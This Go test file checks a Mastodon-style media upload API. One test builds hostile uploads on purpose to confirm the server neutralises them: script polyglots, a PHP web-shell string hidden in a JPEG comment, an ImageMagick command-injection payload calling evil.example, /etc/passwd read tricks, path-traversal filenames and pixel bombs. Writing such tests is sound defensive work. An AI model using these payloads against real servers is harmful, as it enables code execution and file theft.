package mastodon_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
)

// uploads sends a file, under a name and a type of the sender's choice.
func (p *person) uploads(file []byte, name, kind string, fields ...string) answer {
	p.t.Helper()
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = form.WriteField(fields[i], fields[i+1]) // into memory
	}
	part, err := form.CreatePart(textproto.MIMEHeader{"Content-Type": {kind}, "Content-Disposition": {fmt.Sprintf("form-data; name=file; filename=%q", name)}})
	if err != nil {
		p.t.Fatal(err)
	}
	_, _ = part.Write(file) // into memory
	_ = form.Close()
	r := p.request("POST", "/api/v2/media", form.FormDataContentType(), body.String())
	r.Header.Set("Authorization", "Bearer "+p.token)
	return p.send(r)
}

// loads gets an address that the API has given.
func (c *company) loads(address string) answer {
	c.t.Helper()
	path, ok := strings.CutPrefix(address, house.URL)
	if !ok {
		c.t.Fatalf("%s is not ours", address)
	}
	return c.send(c.request("GET", path, "", ""))
}

func drawn(w, h int) *image.Paletted {
	img := image.NewPaletted(image.Rect(0, 0, w, h), color.Palette{color.Gray{200}, color.RGBA{R: 255, A: 255}})
	for x := range w {
		img.SetColorIndex(x, h/2, 1)
	}
	return img
}

func pngOf(w, h int) []byte {
	var b bytes.Buffer
	_ = png.Encode(&b, drawn(w, h)) // into memory
	return b.Bytes()
}

func jpegOf(w, h int) []byte {
	var b bytes.Buffer
	_ = jpeg.Encode(&b, drawn(w, h), nil) // into memory
	return b.Bytes()
}

func gifOf(w, h, frames int) []byte {
	g := &gif.GIF{}
	for range frames {
		g.Image, g.Delay = append(g.Image, drawn(w, h)), append(g.Delay, 1)
	}
	var b bytes.Buffer
	_ = gif.EncodeAll(&b, g) // into memory
	return b.Bytes()
}

func TestAPictureIsSentDescribedPostedAndShown(t *testing.T) {
	t.Parallel()
	c := open(t)
	alice, amir := c.hire("alice"), c.hire("amir")
	sent := alice.uploads(pngOf(30, 20), "cat.png", "image/png", "description", "a cat", "focus", "0.5,-0.25").is(200).object()
	if dig(sent, "meta", "original", "size") != "30x20" || dig(sent, "meta", "focus", "y") != -0.25 || sent["type"] != "image" || sent["description"] != "a cat" || len(sent["blurhash"].(string)) < 6 {
		t.Fatalf("%v", sent)
	}
	c.loads(sent["url"].(string)).is(200)
	amir.asks("GET", "/api/v1/media/"+id(sent)).refused(404, "not_found")
	amir.asks("PUT", "/api/v1/media/"+id(sent), "description", "a dog").refused(404, "not_found")
	amir.asks("POST", "/api/v1/statuses", "status", "mine", "media_ids[]", id(sent)).refused(422, "no_such_media")
	if o := alice.does("PUT", "/api/v1/media/"+id(sent), "description", "two cats").object(); o["description"] != "two cats" || dig(o, "meta", "focus", "x") != 0.5 {
		t.Errorf("%v", o)
	}
	post := alice.post("", "media_ids[]", id(sent), "visibility", "private")
	shown := post["media_attachments"].([]any)
	if len(shown) != 1 || dig(shown[0], "id") != id(sent) || dig(shown[0], "description") != "two cats" || dig(shown[0], "remote_url") != nil {
		t.Fatalf("%v", shown)
	}
	alice.asks("PUT", "/api/v1/media/"+id(sent), "description", "too late").refused(404, "not_found")
	address := dig(shown[0], "url").(string)
	if a := c.loads(address).is(200); a.Header.Get("Content-Type") != "image/png" || a.Header.Get("Cache-Control") != "private, max-age=3600" {
		t.Errorf("%v", a.Header)
	}
	u, _ := url.Parse(address)
	q := u.Query()
	q.Set("for", amir.Key.String())
	c.loads(house.URL + u.Path + "?" + q.Encode()).is(404)
	c.loads(house.URL + u.Path).is(401)

	limits := dig(alice.does("GET", "/api/v2/instance").object(), "configuration", "media_attachments").(object)
	if limits["image_size_limit"] != 10.0*1024*1024 || limits["image_matrix_limit"] != 7680.0*4320 || len(limits["supported_mime_types"].([]any)) != 4 {
		t.Errorf("%v", limits)
	}
	alice.does("DELETE", "/api/v1/statuses/"+id(post))
	again := alice.post("anew", "media_ids[]", id(sent)) // deleted and drafted anew, as clients do
	if len(again["media_attachments"].([]any)) != 1 {
		t.Errorf("%v", again)
	}
	c.loads(dig(again["media_attachments"].([]any)[0], "url").(string)).is(200)
}

func TestAFileThatIsNotTakenIsRefusedWithASentence(t *testing.T) {
	t.Parallel()
	alice := open(t).hire("alice")
	alice.asks("POST", "/api/v2/media", "description", "x").refused(422, "no_file")
	alice.uploads(pngOf(1, 1), "x", "image/png", "focus", "left").refused(422, "bad_focus")
	alice.uploads(pngOf(1, 1), "x", "image/png", "description", strings.Repeat("x", 1501)).refused(422, "long_description")
	alice.uploads(append(pngOf(1, 1), make([]byte, 10<<20)...), "x", "image/png").refused(413, "large_picture")
	alice.uploads(make([]byte, 11<<20), "x", "image/png").refused(413, "too_large")
}

// The files are of our own making: each is, or looks like, something else besides.
func TestAttack13PolyglotsBombsAndPathsComeToNothing(t *testing.T) {
	t.Parallel()
	c := open(t)
	alice := c.hire("alice")
	const script = "<html><script>alert(document.domain)</script></html>"
	comment := append([]byte{0xff, 0xfe, 0, 40}, "<?php system($_GET['c']); ?>          "...)
	for name, tc := range map[string]struct {
		file   []byte
		name   string
		reason string // "" where a picture comes of it
	}{
		"a GIF that is a script":           {append([]byte("GIF89a/*"), append(gifOf(9, 9, 1)[8:], "*/=1;alert(1)//"...)...), "x.gif", ""},
		"a PNG with a page behind it":      {append(pngOf(9, 9), script...), "x.html", ""},
		"a PNG with an archive behind it":  {append(pngOf(9, 9), "PK\x03\x04 payload PK\x05\x06"...), "x.zip", ""},
		"a JPEG with PHP in a comment":     {bytes.Join([][]byte{jpegOf(9, 9)[:2], comment, jpegOf(9, 9)[2:]}, nil), "x.php", ""},
		"a PNG with a document in a chunk": {withChunk(pngOf(9, 9), "tEXt", "x\x00"+`{"@context":"https://www.w3.org/ns/activitystreams","type":"Person"}`), "x.json", ""},
		"many frames":                      {gifOf(60, 60, 2000), "x.gif", ""},
		"as many pixels as are taken":      {pngOf(mostPixels(7680, 4320)), "x.png", ""},
		"a name that climbs":               {pngOf(9, 9), "../../../../x.png", ""},
		"a name at the root":               {pngOf(9, 9), "/etc/cron.d/x", ""},
		"a name with a NUL":                {pngOf(9, 9), "x.png\x00.html", ""},
		"a drawing that runs":              {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "x.png", "not_a_picture"},
		"a script of a picture tool":       {[]byte("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.example/\"|id; \")'\npop graphic-context"), "x.jpg", "not_a_picture"},
		"a file of a picture tool":         {[]byte("ephemeral:/etc/passwd"), "x.png", "not_a_picture"},
		"a list of a film tool":            {[]byte("#EXTM3U\n#EXTINF:1,\nconcat:file:///etc/passwd"), "x.gif", "not_a_picture"},
		"a page":                           {[]byte(script), "x.png", "not_a_picture"},
		"a PNG that breaks off":            {pngOf(99, 99)[:70], "x.png", "broken_picture"},
		"a JPEG that breaks off":           {jpegOf(99, 99)[:200], "x.jpg", "broken_picture"},
		"a GIF that breaks off":            {gifOf(99, 99, 1)[:30], "x.gif", "broken_picture"},
		"a WebP of nothing":                {[]byte("RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff/\xff\xff\xff\xff"), "x.webp", "broken_picture"},
		"a bomb of pixels":                 {sized(pngOf(9, 9), 65000, 65000), "x.png", "many_pixels"},
		"a bomb of a GIF":                  {append([]byte("GIF89a\xff\xff\xff\xff\x00\x00\x00"), gifOf(9, 9, 1)[13:]...), "x.gif", "many_pixels"},
	} {
		t.Run(name, func(t *testing.T) {
			a := alice.uploads(tc.file, tc.name, "text/html")
			if tc.reason != "" {
				a.refused(422, tc.reason)
				return
			}
			got := c.loads(a.is(200).object()["url"].(string)).is(200)
			kind := strings.TrimPrefix(got.Header.Get("Content-Type"), "image/")
			if _, is, err := image.DecodeConfig(strings.NewReader(got.body)); err != nil || is != kind || got.Header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s, really %s: %v", kind, is, err)
			}
			for _, trace := range []string{"alert", "<", "PK\x03", "php", "activitystreams"} {
				if len(got.body) < 2000 && strings.Contains(got.body, trace) && len(trace) > 1 {
					t.Errorf("it has %q in it", trace)
				}
			}
		})
	}
	isOurs := regexp.MustCompile(`^data(/media(/[0-9a-f]{2}(/[0-9a-f]{64})?)?)?$`)
	root := filepath.Dir(c.data)
	_ = filepath.WalkDir(root, func(path string, _ fs.DirEntry, err error) error {
		if rel, _ := filepath.Rel(root, path); err != nil || rel != "." && !isOurs.MatchString(rel) {
			t.Errorf("%s was written, %v", path, err)
		}
		return nil
	})
	var children syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_CHILDREN, &children); err != nil || children.Maxrss > 1<<20 { // kB
		t.Errorf("a child had %d MB: %v", children.Maxrss>>10, err)
	}
	t.Logf("the largest child had %d MB", children.Maxrss>>10)
	alice.does("GET", "/api/v1/accounts/verify_credentials").is(http.StatusOK)
}

// withChunk adds a chunk behind the header of a PNG.
func withChunk(file []byte, kind, body string) []byte {
	const header = 33
	chunk := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	chunk = append(chunk, kind+body...)
	chunk = binary.BigEndian.AppendUint32(chunk, crc32.ChecksumIEEE([]byte(kind+body)))
	return bytes.Join([][]byte{file[:header], chunk, file[header:]}, nil)
}

// sized gives a PNG another size in its header.
func sized(file []byte, w, h uint32) []byte {
	b := bytes.Clone(file)
	binary.BigEndian.PutUint32(b[16:], w)
	binary.BigEndian.PutUint32(b[20:], h)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return b
}
